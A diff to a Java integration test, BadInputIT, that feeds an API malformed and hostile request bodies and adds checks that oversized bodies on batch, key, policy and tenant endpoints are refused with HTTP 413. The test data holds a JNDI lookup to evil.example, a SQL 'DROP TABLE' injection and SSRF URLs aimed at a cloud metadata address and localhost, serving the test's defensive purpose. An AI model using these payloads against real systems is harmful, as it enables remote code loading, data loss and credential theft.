@@ -65,7 +65,7 @@ class BadInputIT {
     texts.put("single quotes", "{'prompt':'x'}");
     texts.put("nothing", "");
     texts.put("zeroes", "\0\0\0\0");
-    texts.put("a template", "{\"prompt\":\"x\",\"model\":\"${jndi:ldap://evil.example/a}\"}");
+    texts.put("a template", "{\"prompt\":\"x\",\"lane\":\"${jndi:ldap://evil.example/a}\"}");
     texts.put("a statement", "{\"prompt\":\"x\",\"lane\":\"'; DROP TABLE tasks; --\"}");
     texts.put("a base URL", "{\"prompt\":\"x\",\"base_url\":\"http://169.254.169.254/\"}");
     texts.put("a callback", "{\"prompt\":\"x\",\"webhook\":\"http://127.0.0.1:5432/\"}");
@@ -114,6 +114,29 @@ class BadInputIT {
       assertThat(reply.error().path("message").asText())
           .isEqualTo("'prompt' has about 200,001 tokens; allowed: at most 200,000 tokens");
     }
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "POST, /v1/batches, 65536",
+    "POST, /v1/batches/mine/move, 65536",
+    "POST, /v1/keys, 65536",
+    "POST, /v1/keys/mine/rotate, 65536",
+    "POST, /v1/accounts, 65536",
+    "POST, /v1/policy, 262144",
+    "POST, /v1/tenants/acme, 65536",
+    "PUT,  /v1/budgets/acme, 65536"
+  })
+  void whatIsNoTaskIsNotLarge(String method, String path, int most) throws Exception {
+    Caller operator = new Caller(server.adminUrl(), IngressKit.KEY);
+    Caller by = path.startsWith("/v1/batches") ? caller : operator;
+    byte[] large = new byte[most + 1];
+
+    Reply reply = by.send(by.request(path).method(method, BodyPublishers.ofByteArray(large)));
+
+    assertThat(reply.status()).isEqualTo(413);
+    assertThat(reply.error().path("code").asText()).isEqualTo("request_too_large");
+    assertThat(reply.error().path("message").asText()).contains("allowed: " + most + " bytes");
   }
 
   private static void isRefused(String path, byte[] body) throws Exception {
